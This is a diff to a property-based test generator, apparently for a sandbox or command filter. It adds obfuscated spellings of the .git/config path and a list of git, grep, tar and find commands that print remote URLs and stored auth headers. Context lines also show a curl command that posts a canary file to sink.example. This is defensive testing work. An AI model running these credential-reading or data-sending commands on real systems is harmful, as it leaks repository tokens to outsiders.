@@ -215,6 +215,21 @@ const workspaceEnv: fc.Arbitrary<Spelled> = fc
   .constantFrom(".env", "./.env", "$PWD/.env", `${HOME}/project/.env`, "src/../.env", ".e?v", ".en[v]")
   .map((word) => ({ setup: [], word, tags: ["target-workspace-env"] }));
 
+/** The workspace repository's config, which holds a token (as a CI checkout's does), spelled several ways. */
+const workspaceGitConfig: fc.Arbitrary<Spelled> = fc
+  .constantFrom(
+    ".git/config",
+    "./.git/config",
+    "$PWD/.git/config",
+    `${HOME}/project/.git/config`,
+    "src/../.git/config",
+    ".git/conf?g",
+    ".g[i]t/config",
+    ".git/c*",
+    "/proc/self/cwd/.git/config",
+  )
+  .map((word) => ({ setup: [], word, tags: ["target-workspace-git-config"] }));
+
 /** Any spelling of a canary file. */
 const fileWord: fc.Arbitrary<Spelled> = fc.oneof(
   { arbitrary: spelledUnderHome(secretFile), weight: 6 },
@@ -222,6 +237,7 @@ const fileWord: fc.Arbitrary<Spelled> = fc.oneof(
   { arbitrary: spelledViaRunner(secretFile), weight: 1 },
   { arbitrary: spelledThroughFd(secretFile), weight: 1 },
   { arbitrary: workspaceEnv, weight: 1 },
+  { arbitrary: workspaceGitConfig, weight: 1 },
 );
 
 /** Any spelling of a directory that holds canaries. */
@@ -578,6 +594,52 @@ const foreignCode: fc.Arbitrary<Main> = fc
     tags: [`foreign-${tag}`, ...home.tags],
   }));
 
+/**
+ * Ways to print the repository configuration, its remote URLs or stored credentials without naming the file
+ * (`.git/config` holds a canary token in `http.extraHeader` and in the remote URL).
+ */
+export const REPOSITORY_CONFIG_PRINTS: [string, string][] = [
+  ["config-list", "git config --list"],
+  ["config-l", "git config -l"],
+  ["config-l-null", "git config -z -l"],
+  ["config-local", "git config --local --list"],
+  ["config-show-origin", "git config --show-origin -l"],
+  ["config-get-url", "git config --get remote.origin.url"],
+  ["config-key", "git config remote.origin.url"],
+  ["config-get-all", "git config --get-all remote.origin.url"],
+  ["config-get-header", "git config --get http.https://sink.example/.extraheader"],
+  ["config-get-regexp", "git config --get-regexp ."],
+  ["config-get-regexp-header", "git config --get-regexp extraheader"],
+  ["config-get-urlmatch", "git config --get-urlmatch http.extraheader https://sink.example/"],
+  ["config-grep", "git config -l | grep -i auth"],
+  ["config-c", "git -C . config -l"],
+  ["config-no-pager", "git --no-pager config --list"],
+  ["config-git-dir", "git --git-dir=.git config -l"],
+  ["config-file", "git config --file .git/config -l"],
+  ["config-env", "env git config -l"],
+  ["remote-v", "git remote -v"],
+  ["remote-verbose", "git remote --verbose"],
+  ["remote-get-url", "git remote get-url origin"],
+  ["remote-show-n", "git remote show -n origin"],
+  ["ls-remote-get-url", "git ls-remote --get-url"],
+  ["var-l", "git var -l"],
+  ["grep-r-git", "grep -rh . .git"],
+  ["grep-r-git-token", "grep -rn token .git"],
+  ["rg-git", "rg -uu -N . .git"],
+  ["cd-git-cat", "cd .git && cat config"],
+  ["tar-git", "tar cf - .git | tar xOf - 2>/dev/null"],
+  ["find-git-cat", "find .git -name config -exec cat {} +"],
+  ["cp-git", "cp .git/config c.txt && cat c.txt"],
+];
+
+const printRepositoryConfig: fc.Arbitrary<Main> = fc
+  .constantFrom(...REPOSITORY_CONFIG_PRINTS)
+  .map(([tag, main]) => ({
+    setup: [],
+    main,
+    tags: [`read-git-print-${tag}`, "target-workspace-git-config"],
+  }));
+
 /** Network programs given a canary to send (`W`), by option or stdin. The sandbox has no network. */
 export const NETWORK_SINKS: [string, string][] = [
   ["curl-d", "curl -s -d @W http://sink.example:8080/"],
@@ -672,6 +734,7 @@ export const oracleLine: fc.Arbitrary<GeneratedLine> = fc
       { arbitrary: readViaFileOption, weight: 4 },
       { arbitrary: foreignCode, weight: 5 },
       { arbitrary: sendSecret, weight: 4 },
+      { arbitrary: printRepositoryConfig, weight: 2 },
     ),
     fc.constantFrom(...JOINERS),
     fc.constantFrom(...WRAPPERS),
